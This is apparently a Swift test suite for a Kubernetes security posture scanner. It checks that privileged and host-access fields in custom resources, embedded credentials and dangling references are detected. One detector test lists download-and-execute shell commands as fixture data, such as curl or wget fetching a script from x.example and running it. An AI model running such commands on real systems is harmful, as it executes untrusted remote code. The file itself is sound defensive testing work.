import Bytes
import Findings
import Kube
import PodSecurity
import Posture
import TestKit
import Testing

/// What is judged of objects whose kind nobody describes.
@Suite struct CustomResourceTests {
  private static func findings(_ text: String, _ checks: String...) async throws -> [String] {
    let checks = try checks.map { try #require(CheckCatalogue.check($0)) }
    let result = await PostureScan(checks: checks).run(Fixtures.snapshot(text))
    return result.findings.flatMap { finding in finding.evidence.map { "\(finding.check.rawValue) \($0.path)" } }
  }

  private static func object(_ apiVersion: String, _ kind: String, _ spec: String) -> String {
    "apiVersion: \(apiVersion)\nkind: \(kind)\nmetadata: {name: a, namespace: n}\nspec: \(spec)\n"
  }

  /// Fields of pods count wherever a controller takes them from, and once.
  @Test(arguments: [
    (
      "argoproj.io/v1alpha1", "Workflow",
      "{hostNetwork: true, volumes: [{name: v, hostPath: {path: /run/docker.sock}}], templates: [{name: a, container: {image: i}}, {name: b, script: {image: i}}]}",
      ["pss-host-namespaces spec.hostNetwork", "pss-host-path-volumes spec.volumes[0].hostPath.path"]
    ),
    (
      "argoproj.io/v1alpha1", "CronWorkflow",
      "{workflowSpec: {podSpecPatch: '{\"hostPID\": true}', templates: [{name: a, container: {image: i, securityContext: {privileged: true}}}]}}",
      [
        "pss-privileged spec.workflowSpec.templates[0].container.securityContext.privileged",
        "host-access-in-custom-resource spec.workflowSpec.podSpecPatch",
      ]
    ),
    (
      "tekton.dev/v1", "PipelineRun",
      "{taskRunTemplate: {podTemplate: {hostPID: true}}, pipelineSpec: {tasks: [{name: t, taskSpec: {steps: [{image: i}]}}]}}",
      ["pss-host-namespaces spec.taskRunTemplate.podTemplate.hostPID"]
    ),
    (
      "sparkoperator.k8s.io/v1beta2", "SparkApplication",
      "{image: i, volumes: [{name: v, hostPath: {path: /}}], driver: {hostNetwork: true}, executor: {securityContext: {privileged: true}}}",
      [
        "host-access-in-custom-resource spec.volumes[0].hostPath",
        "host-access-in-custom-resource spec.driver.hostNetwork",
        "host-access-in-custom-resource spec.executor.securityContext.privileged",
      ]
    ),
    (
      "serving.kserve.io/v1beta1", "InferenceService",
      "{predictor: {model: {securityContext: {privileged: true}}, containers: [{name: k, image: i, securityContext: {privileged: true}}]}}",
      [
        "pss-privileged spec.predictor.containers[0].securityContext.privileged",
        "host-access-in-custom-resource spec.predictor.model.securityContext.privileged",
      ]
    ),
    (
      "kubevirt.io/v1", "VirtualMachine",
      "{template: {spec: {volumes: [{name: r, hostDisk: {path: /data/disk.img}}]}}}",
      ["host-access-in-custom-resource spec.template.spec.volumes[0].hostDisk"]
    ),
    ("monitoring.coreos.com/v1", "Alertmanager", "{hostNetwork: false, securityContext: {runAsUser: 1000}}", []),
    (
      "kyverno.io/v1", "ClusterPolicy",
      "{rules: [{name: r, validate: {pattern: {spec: {hostPID: true, containers: [{image: '*:*', securityContext: {privileged: true}}]}}}}]}",
      []
    ),
    (
      "kyverno.io/v1", "ClusterPolicy",
      "{rules: [{name: r, generate: {kind: Pod, data: {spec: {containers: [{name: a, image: i, securityContext: {privileged: true}}]}}}}]}",
      ["pss-privileged spec.rules[0].generate.data.spec.containers[0].securityContext.privileged"]
    ),
  ]) func fieldsOfPods(_ apiVersion: String, _ kind: String, _ spec: String, _ expected: [String]) async throws {
    let found = try await Self.findings(
      Self.object(apiVersion, kind, spec), "pss-privileged", "pss-host-namespaces", "pss-host-path-volumes",
      "host-access-in-custom-resource")
    #expect(found.sorted() == expected.sorted())
  }

  /// Two objects that were read from a cluster stand at the same place, and each has its findings.
  @Test func objectsWithoutAPlaceAreJudgedEach() async throws {
    let pods = ["a", "b"].map {
      KubeObject(
        [
          "apiVersion": "v1", "kind": "Pod", "metadata": ["name": DocumentNode(.string($0))],
          "spec": ["hostPID": true],
        ], file: "cluster")
    }
    var builder = ClusterSnapshot.Builder()
    for pod in pods.compactMap(\.self) { builder.add(pod) }
    let check = try #require(CheckCatalogue.check("pss-host-namespaces"))
    let result = await PostureScan(checks: [check]).run(builder.build())
    #expect(result.findings.map(\.subject.name) == ["a", "b"])
  }

  /// Credentials count wherever they stand, and references to Secrets are none.
  @Test(arguments: [
    (
      "keda.sh/v1alpha1", "ScaledJob", "{triggers: [{metadata: {host: 'amqp://u:Kz7harbour@mq:5672/'}}]}",
      ["spec.triggers[0].metadata.host"]
    ),
    (
      "argoproj.io/v1alpha1", "Application",
      "{source: {helm: {parameters: [{name: db.password, value: Kz7-harbourQ}], values: \"auth:\\n  password: Kz7-harbourQ\\n\"}}}",
      ["spec.source.helm.parameters[0].value", "spec.source.helm.values"]
    ),
    (
      "sparkoperator.k8s.io/v1beta2", "SparkApplication",
      "{hadoopConf: {fs.s3a.secret.key: Kz7harbourQ2mB9xT4wLp8Rd}}", ["spec.hadoopConf[\"fs.s3a.secret.key\"]"]
    ),
    (
      "opentelemetry.io/v1beta1", "OpenTelemetryCollector",
      "{config: {exporters: {otlp: {headers: {authorization: 'Bearer Kz7harbourQ2mB9xT4w'}}}}}",
      ["spec.config.exporters.otlp.headers.authorization"]
    ),
    (
      "kubevirt.io/v1", "VirtualMachine",
      "{template: {spec: {volumes: [{cloudInitNoCloud: {userData: \"#cloud-config\\npassword: Kz7harbourQ\\n\"}}]}}}",
      ["spec.template.spec.volumes[0].cloudInitNoCloud.userData"]
    ),
    (
      "kafka.strimzi.io/v1beta2", "KafkaConnect",
      "{authentication: {passwordSecret: {secretName: user, password: my-password-1}}}", []
    ),
    (
      "helm.toolkit.fluxcd.io/v2", "HelmRelease",
      "{values: {auth: {existingSecret: redis-login, password: '${PASSWORD}'}, token: REPLACE_ME}}", []
    ),
    ("bitnami.com/v1alpha1", "SealedSecret", "{encryptedData: {password: AgBy3i4OJSWKPiTySYZZA9rO43cGDEqAg}}", []),
    (
      "cert-manager.io/v1", "ClusterIssuer",
      "{acme: {solvers: [{dns01: {route53: {accessKeyID: AKIAK3JD9SLQ2XBV7NRW, secretAccessKeySecretRef: {name: r, key: k}}}}]}}",
      []
    ),
    (
      "apps/v1", "Deployment",
      "{template: {spec: {containers: [{name: a, image: i, readinessProbe: {httpGet: {httpHeaders: [{name: Authorization, value: 'Basic Kz7harbourQ2mB9xT4w'}]}}}]}}}",
      ["spec.template.spec.containers[0].readinessProbe.httpGet.httpHeaders[0].value"]
    ),
  ]) func credentialsInFields(_ apiVersion: String, _ kind: String, _ spec: String, _ expected: [String]) async throws {
    let found = try await Self.findings(Self.object(apiVersion, kind, spec), "credential-in-field")
    #expect(found == expected.map { "credential-in-field " + $0 })
  }

  /// A hash of a Secret is none, and what stands in the template of pods is read as well.
  @Test(arguments: [
    ("checksum/secret", "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08", 0),
    ("example.com/secret-hash", "9f86d081884c7d659a2feaa0", 0), ("example.com/token", "Kz7harbourQ2mB9xT4w", 2),
  ]) func annotations(_ key: String, _ value: String, _ count: Int) async throws {
    let metadata = "annotations: {\(key): \(value)}"
    let text =
      "apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: a, \(metadata)}\nspec: {template: {metadata: {\(metadata)}, spec: {containers: []}}}\n"
    #expect(try await Self.findings(text, "credential-in-annotation").count == count)
  }

  /// Patches that a controller applies later are not judged, and that is said.
  @Test(arguments: [
    ("kustomize.toolkit.fluxcd.io/v1", "Kustomization", "{path: ./app, patches: [{patch: x}]}", false),
    ("helm.toolkit.fluxcd.io/v2", "HelmRelease", "{postRenderers: [{kustomize: {}}]}", false),
    ("kustomize.toolkit.fluxcd.io/v1", "Kustomization", "{path: ./app}", true),
  ]) func patchesOfControllers(_ apiVersion: String, _ kind: String, _ spec: String, _ isComplete: Bool) async {
    let result = await PostureScan().run(Fixtures.snapshot(Self.object(apiVersion, kind, spec)))
    #expect((result.status == .complete) == isComplete)
  }

  @Test func whatSOPSHasEncryptedIsNotValidated() async throws {
    let text = """
      apiVersion: v1
      kind: Secret
      metadata: {name: a}
      data: {password: "ENC[AES256_GCM,data:p6,iv:YY=,tag:A=]"}
      sops: {mac: "ENC[x]", version: 3.8.1}
      """
    let checks = try ["schema", "secret-in-manifest"].map { try #require(CheckCatalogue.check($0)) }
    let result = await PostureScan(checks: checks).run(Fixtures.snapshot(text))
    #expect(result.findings.isEmpty && result.problems.map(\.code) == [.encrypted])
  }

  @Test(arguments: [
    ("stringData: {a: '<path:secret/app#key>', b: '${TOKEN}', c: REPLACE_ME}", 0),
    ("data: {a: JHtUT0tFTn0=}", 0), ("stringData: {a: '${TOKEN}', b: Kz7harbourQ}", 1),
    ("data: {a: S3o3aGFyYm91clE=}", 1),
  ]) func placeholdersAreNoValues(_ rest: String, _ count: Int) async throws {
    let text = "apiVersion: v1\nkind: Secret\nmetadata: {name: a}\n\(rest)\n"
    #expect(try await Self.findings(text, "secret-in-manifest").count == count)
  }

  /// What an operator makes of a custom resource of the input is not missing.
  @Test(arguments: [
    ("orders-db", "grafana", [String]()),
    (
      "other", "else",
      ["dangling-ingress spec.rules[0].http.paths[0].backend.service.name", "dangling-service spec.selector"]
    ),
  ]) func whatOperatorsMakeIsNotMissing(_ cluster: String, _ dashboard: String, _ expected: [String]) async throws {
    let text = """
      \(Self.object("postgresql.cnpg.io/v1", "Cluster", "{}").replacing("name: a", with: "name: \(cluster)"))---
      \(Self.object("grafana.integreatly.org/v1beta1", "Grafana", "{}").replacing("name: a", with: "name: \(dashboard)"))---
      \(Self.object("networking.k8s.io/v1", "Ingress", "{rules: [{http: {paths: [{backend: {service: {name: grafana-service, port: {number: 3000}}}}]}}]}"))---
      \(Self.object("v1", "Service", "{selector: {cnpg.io/cluster: orders-db}, ports: [{port: 5432}]}"))---
      \(Self.object("v1", "Pod", "{containers: [{name: a, image: i}]}"))
      """
    #expect(try await Self.findings(text, "dangling-ingress", "dangling-service").sorted() == expected)
  }

  private static let shop = """
    apiVersion: v1
    kind: Service
    metadata: {name: web, namespace: n, labels: {app: web}}
    spec: {selector: {app: web}, ports: [{name: http, port: 80}]}
    ---
    apiVersion: v1
    kind: Pod
    metadata: {name: web, namespace: n, labels: {app: web}}
    spec: {containers: [{name: c, image: i, ports: [{name: http, containerPort: 80}]}]}
    ---

    """

  @Test(arguments: [
    ("policy/v1", "PodDisruptionBudget", "{selector: {matchLabels: {app: wbe}}}", ["spec.selector"]),
    ("policy/v1", "PodDisruptionBudget", "{selector: {matchLabels: {app: web}}}", []),
    (
      "monitoring.coreos.com/v1", "ServiceMonitor", "{selector: {matchLabels: {app: wbe}}, endpoints: []}",
      ["spec.selector"]
    ),
    (
      "monitoring.coreos.com/v1", "PodMonitor",
      "{selector: {matchLabels: {app: web}}, podMetricsEndpoints: [{port: metrics}]}",
      ["spec.podMetricsEndpoints[0].port"]
    ),
    (
      "gateway.networking.k8s.io/v1", "HTTPRoute",
      "{rules: [{backendRefs: [{name: web, port: 80}, {name: web, port: 81}, {name: none, port: 80}]}]}",
      ["spec.rules[0].backendRefs[2].name", "spec.rules[0].backendRefs[1].port"]
    ),
    ("apps/v1", "StatefulSet", "{serviceName: none, template: {spec: {containers: []}}}", ["spec.serviceName"]),
  ]) func references(_ apiVersion: String, _ kind: String, _ spec: String, _ expected: [String]) async throws {
    let found = try await Self.findings(Self.shop + Self.object(apiVersion, kind, spec), "dangling-reference")
    #expect(found == expected.map { "dangling-reference " + $0 })
  }

  @Test(arguments: [
    ("keda.sh/v1alpha1", "ScaledObject", "{scaleTargetRef: {name: none}}", ["spec.scaleTargetRef.name"]),
    (
      "autoscaling.k8s.io/v1", "VerticalPodAutoscaler", "{targetRef: {kind: Deployment, name: none}}",
      ["spec.targetRef.name"]
    ),
  ]) func autoscalers(_ apiVersion: String, _ kind: String, _ spec: String, _ expected: [String]) async throws {
    let found = try await Self.findings(Self.shop + Self.object(apiVersion, kind, spec), "dangling-autoscaler")
    #expect(found == expected.map { "dangling-autoscaler " + $0 })
  }

  @Test(arguments: [
    ("curl https://x.example/i.sh -o i.sh; chmod +x i.sh; ./i.sh", true),
    ("wget -qO /tmp/i https://x.example/i && sh /tmp/i", true),
    ("curl -fsSLO https://x.example/i.sh\nbash i.sh", true), ("wget https://x.example/i.py; python3 i.py", true),
    ("curl -o i.sh https://x.example/i.sh && sha256sum -c sums && sh i.sh", false),
    ("wget -O /tmp/x.tgz https://x.example/y.tgz && tar xzf /tmp/x.tgz", false),
    ("curl -sf https://x.example/health | grep -q ok && echo fine", false),
    ("pip install requests && python /s.py", false),
  ]) func downloads(_ command: String, _ isFound: Bool) async throws {
    let script = command.replacing("\n", with: "\\n")
    let text = Self.object("v1", "Pod", "{containers: [{name: a, image: i, command: [sh, -c, \"\(script)\"]}]}")
    #expect(try await Self.findings(text, "downloads-and-runs").isEmpty != isFound)
  }

  @Test(arguments: ["KSV017", "AVD-KSV-0017", "trivy:KSV-0017", "ksv-0017", "trivy:avd-ksv-0017"])
  func formsOfTrivysIDs(_ id: String) {
    #expect(CheckCatalogue.checks(known: id).map(\.metadata.id.rawValue) == ["pss-privileged"])
  }
}
